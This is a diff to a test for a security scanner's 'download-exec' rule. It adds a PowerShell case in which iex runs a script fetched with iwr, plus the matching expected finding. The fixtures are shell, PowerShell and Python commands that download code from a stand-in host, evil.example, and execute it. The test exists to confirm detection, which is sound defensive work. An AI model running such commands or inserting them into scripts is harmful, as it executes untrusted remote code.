@@ -24,7 +24,7 @@ test('download-exec: fires on wget | sudo sh, continuations, substitutions, Powe
     'sh -c "$(curl -fsSL http://evil.example/z)"',
     'eval "$(wget -qO- https://evil.example/w)"',
   ].join('\n');
-  const ps = ["iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", 'iwr https://evil.example/b.ps1 | iex'].join('\n');
+  const ps = ["iex (New-Object Net.WebClient).DownloadString('http://evil.example/a.ps1')", 'iwr https://evil.example/b.ps1 | iex', 'iex (iwr https://evil.example/c.ps1 -UseBasicParsing)'].join('\n');
   const py = 'import urllib.request as u\nexec(urlopen(URL).read())\n';
   const f = scan({ 'scripts/a.sh': sh, 'scripts/b.ps1': ps, 'scripts/c.py': py }, rule);
   assert.deepEqual(summary(f), [
@@ -35,6 +35,7 @@ test('download-exec: fires on wget | sudo sh, continuations, substitutions, Powe
     'scripts/a.sh:6:1 error',
     'scripts/b.ps1:1:1 error',
     'scripts/b.ps1:2:1 error',
+    'scripts/b.ps1:3:1 error',
     'scripts/c.py:2:1 error',
   ]);
 });
